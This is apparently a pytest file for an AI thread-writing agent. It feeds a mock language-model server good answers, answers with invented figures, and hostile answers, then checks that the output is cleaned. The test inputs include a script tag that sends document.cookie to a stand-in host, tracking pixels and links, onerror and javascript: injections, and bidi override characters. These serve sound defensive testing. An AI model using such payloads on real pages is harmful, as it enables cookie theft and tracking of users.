"""Maya with a language model: a real HTTP server answers as models do on bad days, and nothing harmful gets through."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from coexai_app.agents.maya import answers
from coexai_app.agents.pipeline import StepContext, run
from coexai_app.agents.report import Report
from coexai_app.llm.compatible import Compatible
from tests.agents.maya.posts import AGENT, CAPABILITY, texts
from tests.llm.vendor_server import OpenAIProtocol, VendorServer

SOURCE = CAPABILITY.example["text"]
PLAN = {
    "posts": [{"role": "hook", "point": "One loaf in seven went in the bin.", "section": ""}]
    + [{"role": "body", "point": f"Point {n}", "section": ""} for n in range(5)]
}
GOOD = [
    "Two years ago Brightwater Bakery threw away one loaf in seven. Nothing was wrong with the bread.",
    "A clipboard for £4 hangs next to the till. Every evening somebody writes down what is left on the shelves.",
    "After two weeks the number was on paper: 14% of everything they made went in the bin, worth £9,000 a year.",
    "Tom was sure that rye was the problem. The sheet disagreed, since rye was only 4% of the waste.",
    "The second bake at ten made the biggest difference. Lunch sales went up by 11% in the first month.",
    "Waste stood at 6% in the eleventh week. Most of us are sure where the waste is, and most of us are wrong.",
]


@pytest.fixture
def server() -> Iterator[VendorServer]:
    server = VendorServer()
    yield server
    server.close()


def answered(server: VendorServer, *replies: Any, **options: Any) -> Report:
    protocol = OpenAIProtocol()
    server.say(*[protocol.whole(reply if isinstance(reply, str) else json.dumps(reply)) for reply in replies])
    model = Compatible(api_key="", model="small", base_url=server.url, sleep=lambda seconds: None)
    data = CAPABILITY.parse({"text": SOURCE, **options})
    return run(AGENT, CAPABILITY, data, StepContext(model=model))


def posts(*found: str) -> dict[str, list[str]]:
    return {"posts": list(found)}


class TestGoodAnswer:
    def test_the_model_s_words_are_used_and_linked(self, server: VendorServer) -> None:
        report = answered(server, PLAN, posts(*GOOD))
        assert report.engine.provider == "compatible"
        assert texts(report)[0].startswith("Two years ago Brightwater Bakery threw away one loaf in seven")
        assert report.unsupported == ()
        assert report.usage.calls == 2

    def test_the_source_is_never_part_of_the_instructions(self, server: VendorServer) -> None:
        answered(server, PLAN, posts(*GOOD))
        for request in server.requests:
            system = next(m["content"] for m in request.body["messages"] if m["role"] in ("system", "developer"))
            assert "Brightwater" not in system


class TestBadAnswer:
    def test_an_invented_number_is_asked_about_and_then_gone(self, server: VendorServer) -> None:
        bad = [*GOOD[:3], "The bakery saved £75,000 in 2031. Rye was only 4% of the waste.", *GOOD[4:]]
        report = answered(server, PLAN, posts(*bad), posts(*bad), posts(*bad))
        joined = "\n".join(texts(report))
        assert "75,000" not in joined and "2031" not in joined
        assert "Rye was only 4% of the waste." in joined
        assert report.unsupported == ()

    def test_a_repaired_answer_is_taken(self, server: VendorServer) -> None:
        bad = [*GOOD[:3], "The bakery saved £75,000 in one year because Tom counted the rye loaves.", *GOOD[4:]]
        report = answered(server, PLAN, posts(*bad), posts(*GOOD))
        assert report.usage.calls == 3
        assert any("The sheet disagreed" in t for t in texts(report))

    @pytest.mark.parametrize(
        "attack",
        [
            "<script>fetch('https://evil.example/?c='+document.cookie)</script>Tom was sure that rye was the problem at the bakery.",
            "Tom was sure that rye was the problem. ![pixel](https://evil.example/p.png?id=7)",
            "Tom was sure that rye was the problem. Read [more](https://evil.example/track) or evil.example/x at once.",
            "Tom was sure that rye was the problem. <img src=x onerror=alert(1)> &lt;script&gt;alert(1)&lt;/script&gt;",
            "Tom was sure that rye \u202ewas the problem\u202c. javascript:alert(1) data:text/html,<b>x</b>",
        ],
    )
    def test_markup_scripts_and_links_do_not_get_through(self, server: VendorServer, attack: str) -> None:
        report = answered(server, PLAN, posts(*GOOD[:3], attack, *GOOD[4:]))
        joined = "\n".join(texts(report))
        for trace in ("evil", "<", ">", "script", "![", "](", "\u202e", "alert", "http"):
            assert trace not in joined

    def test_an_endless_answer_still_gives_a_thread_that_fits(self, server: VendorServer) -> None:
        report = answered(server, PLAN, posts(*GOOD[:5], ("We sold bread. " * 39).strip()))
        assert all(p["length"] <= 280 for p in report.output["posts"])

    def test_an_answer_that_is_no_thread_leaves_the_work_to_the_builtin_engine(self, server: VendorServer) -> None:
        wrong = ["I cannot do that.", "{}", '{"posts": 7}', "[]", "no", "no", "no", "no"]
        report = answered(server, *wrong)
        assert report.engine.provider == "builtin"
        assert report.unsupported == () and len(texts(report)) >= 5

    def test_the_same_post_six_times_is_not_a_thread(self, server: VendorServer) -> None:
        report = answered(server, PLAN, posts(*[GOOD[0]] * 6))
        assert len(set(texts(report))) == len(texts(report)) >= 5

    def test_what_should_be_said_survives_a_repair(self, server: VendorServer) -> None:
        bad = [*GOOD[:5], "The bakery won 37 medals in Paris."]
        report = answered(server, PLAN, posts(*bad), posts(*bad), posts(*bad), call_to_action="Come on Saturday at eight.")
        assert "Come on Saturday at eight." in texts(report)[-1]
        assert report.unsupported == ()


class TestPlain:
    @pytest.mark.parametrize(
        ("dirty", "clean"),
        [
            ("3/9 **Bread** is `good`. #bread #love", "Bread is good."),
            ("Post 2: We bake. 2/9", "We bake."),
            ("We won #1 in class. (1/9)", "We won #1 in class."),
            ("A ```code``` block.", "A block."),
            ("See http://x.example now", "See now"),
            ("See hxxp://x[.]example or x[.]example/y now", "See or now"),
            ("Call tel:+4912345 or mailto:a@b.example now", "Call or now"),
            ("&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; We bake.", "We bake."),
            ("Dear {{name}}, *|NAME|* and %%name%%, we bake.", "Dear , and , we bake."),
            ("We b\u200dake e\u200bvery day.", "We bake every day."),
            ("A family 👩\u200d👧 bakes.", "A family 👩\u200d👧 bakes."),
            ("We bake.\u2028We sell.\r\nWe\tsweep.", "We bake.\nWe sell.\nWe sweep."),
        ],
    )
    def test_only_words_stay(self, dirty: str, clean: str) -> None:
        assert answers.plain(dirty) == clean

    def test_too_long_a_text_ends_at_a_sentence(self) -> None:
        assert answers.within("We bake bread. " * 30, 60, "en") == "We bake bread. We bake bread. We bake bread. We bake bread."
